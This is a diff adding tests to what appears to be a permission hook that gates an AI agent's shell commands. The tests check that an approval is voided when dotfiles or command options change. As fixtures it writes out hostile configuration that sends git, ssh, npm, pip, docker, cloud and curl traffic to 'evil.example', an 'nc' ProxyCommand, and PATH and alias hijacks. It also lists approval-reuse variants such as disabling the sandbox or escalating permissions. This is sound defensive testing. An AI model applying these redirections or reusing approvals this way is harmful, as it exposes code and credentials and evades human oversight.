@@ -250,3 +250,99 @@ test("what is shown names every effect, script, commit and remote, as it is spel
   ])
     expect(seen.join("\n")).toContain(part);
 });
+
+describe("void: what the program reads of the person's configuration is another", () => {
+  const at = (path: string): string => join(here.home, path);
+  const put = (path: string, text: string): void => {
+    mkdirSync(join(at(path), ".."), { recursive: true });
+    writeFileSync(at(path), text);
+  };
+  const REWRITE = '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n';
+  const rows: readonly (readonly [command: string, file: string, text: string])[] = [
+    ["git push origin main", ".gitconfig", REWRITE],
+    ["git push origin main", ".config/git/config", REWRITE.replace("insteadOf", "pushInsteadOf")],
+    ["git push origin main", "inc/extra.inc", REWRITE],
+    ["git push git@git.example:a/b main", ".ssh/config", "Host git.example\n  HostName evil.example\n"],
+    ["git push git@git.example:a/b main", ".ssh/config.d/work.conf", "Host *\n  ProxyCommand nc evil.example 22\n"],
+    ["ssh host.example uptime", ".ssh/more", "Host *\n  HostName evil.example\n"],
+    ["scp src/a.ts host.example:", ".ssh/config", "Host host.example\n  HostName evil.example\n"],
+    ["rsync -a src/ host.example:x/", ".ssh/config", "Host *\n  HostName evil.example\n"],
+    ["npm publish", ".npmrc", "registry=https://evil.example/\n"],
+    ["npm publish", "code/.npmrc", "registry=https://evil.example/\n"],
+    ["yarn npm publish", "code/.yarnrc.yml", "npmPublishRegistry: https://evil.example\n"],
+    ["pip install left-pad", ".config/pip/pip.conf", "[global]\nindex-url=https://evil.example\n"],
+    ["twine upload dist/x", ".pypirc", "[pypi]\nrepository=https://evil.example\n"],
+    ["cargo publish", ".cargo/config.toml", '[registry]\ndefault="evil"\n'],
+    ["cargo publish", "code/.cargo/config.toml", '[registry]\ndefault="evil"\n'],
+    ["gem push x.gem", ".gem/credentials", ":rubygems_host: https://evil.example\n"],
+    ["mvn deploy", ".m2/settings.xml", "<settings/>"],
+    ["gradle publish", ".gradle/init.d/a.gradle", "x"],
+    ["curl https://api.example/", ".curlrc", "proxy=evil.example\n"],
+    ["curl -d @src/a.ts https://api.example/", ".config/curlrc", "proxy=evil.example\n"],
+    ["curl -n https://api.example/", ".netrc", "default login x password y\n"],
+    ["wget https://api.example/", ".wgetrc", "http_proxy=evil.example\n"],
+    ["kubectl apply -f src/a.ts", ".kube/config", "current-context: production\n"],
+    ["docker push a/b", ".docker/config.json", '{"currentContext":"evil"}'],
+    ["docker push a/b", ".docker/contexts/meta/x/meta.json", "{}"],
+    ["aws s3 cp src/a.ts s3://b/", ".aws/config", "[default]\nendpoint_url=https://evil.example\n"],
+    ["gcloud app deploy", ".config/gcloud/active_config", "evil"],
+    ["gcloud app deploy", ".config/gcloud/configurations/config_default", "[core]\nproject=evil\n"],
+    ["gh pr create --fill", ".config/gh/config.yml", "http_unix_socket: /tmp/x\n"],
+    ["terraform apply", ".terraformrc", "provider_installation {}\n"],
+    ["rclone copy src remote:b", ".config/rclone/rclone.conf", "[remote]\nendpoint=evil.example\n"],
+    ["psql -c 'select 1'", ".pg_service.conf", "[x]\nhost=evil.example\n"],
+    ["ansible-playbook deploy.py", ".ansible.cfg", "[defaults]\ninventory=/x\n"],
+    ["bash deploy.sh", ".gitconfig", REWRITE],
+    ["make deploy", ".zshenv", "alias git=evil\n"],
+    ["unheardof --all", ".bashrc", "alias unheardof=evil\n"],
+    ["unheardof --all", ".profile", "PATH=/tmp/x:$PATH\n"],
+  ];
+  beforeEach(() => {
+    put(".gitconfig", '[include]\n\tpath = ../home/inc/extra.inc\n[user]\n\tname = "a"\n');
+    put(".ssh/config", "Include ~/.ssh/more\nInclude config.d/*.conf\nHost other\n");
+  });
+
+  test.each([...new Set(rows.map(([command]) => command))])("%s passes as it was asked", async (command) => {
+    expect(await tryAgain(bash(command), () => put(".bash_history", "x"))).toBe("approval");
+  });
+
+  test.each(rows)("%s: ~/%s", async (command, file, text) => {
+    expect(await tryAgain(bash(command), () => put(file, text))).not.toBe("approval");
+  });
+
+  test("a link of the configuration leads to another file", async () => {
+    put("dotfiles/npmrc", "registry=https://evil.example/\n");
+    const by = await tryAgain(bash("npm publish"), () => symlinkSync(at("dotfiles/npmrc"), at(".npmrc")));
+    expect(by).not.toBe("approval");
+  });
+
+  test("a file the configuration names is another", async () => {
+    put(".npmrc", `cafile=${at("ca.pem")}\n`);
+    put("ca.pem", "one\n");
+    expect(await tryAgain(bash("npm publish"), () => undefined)).toBe("approval");
+    expect(await tryAgain(bash("npm publish"), () => put("ca.pem", "two\n"))).not.toBe("approval");
+  });
+});
+
+describe("void: the same command, run otherwise", () => {
+  const asked = (more: Record<string, string | number | boolean>) =>
+    call("Bash", { command: "bash deploy.sh", description: "ship", ...more });
+  test.each<[string, Record<string, string | number | boolean>]>([
+    ["in the background", { run_in_background: true }],
+    ["with another time limit", { timeout: 600_000 }],
+    ["outside the sandbox", { dangerouslyDisableSandbox: true }],
+    ["with more rights", { with_escalated_permissions: true }],
+    ["by a field nobody declared", { shell: "/tmp/sh" }],
+  ])("%s", async (_, more) => {
+    const again = async (first: Action, then: Action) => {
+      let by: unknown;
+      await tryAgain(first, async (check) => {
+        by = ((await check(then)) as { by: string }).by;
+      });
+      return by;
+    };
+    expect(await again(asked({}), asked({ description: "in other words" }))).toBe("approval");
+    expect(await again(asked({}), asked(more))).not.toBe("approval");
+    expect(await again(asked(more), asked({}))).not.toBe("approval");
+  });
+});
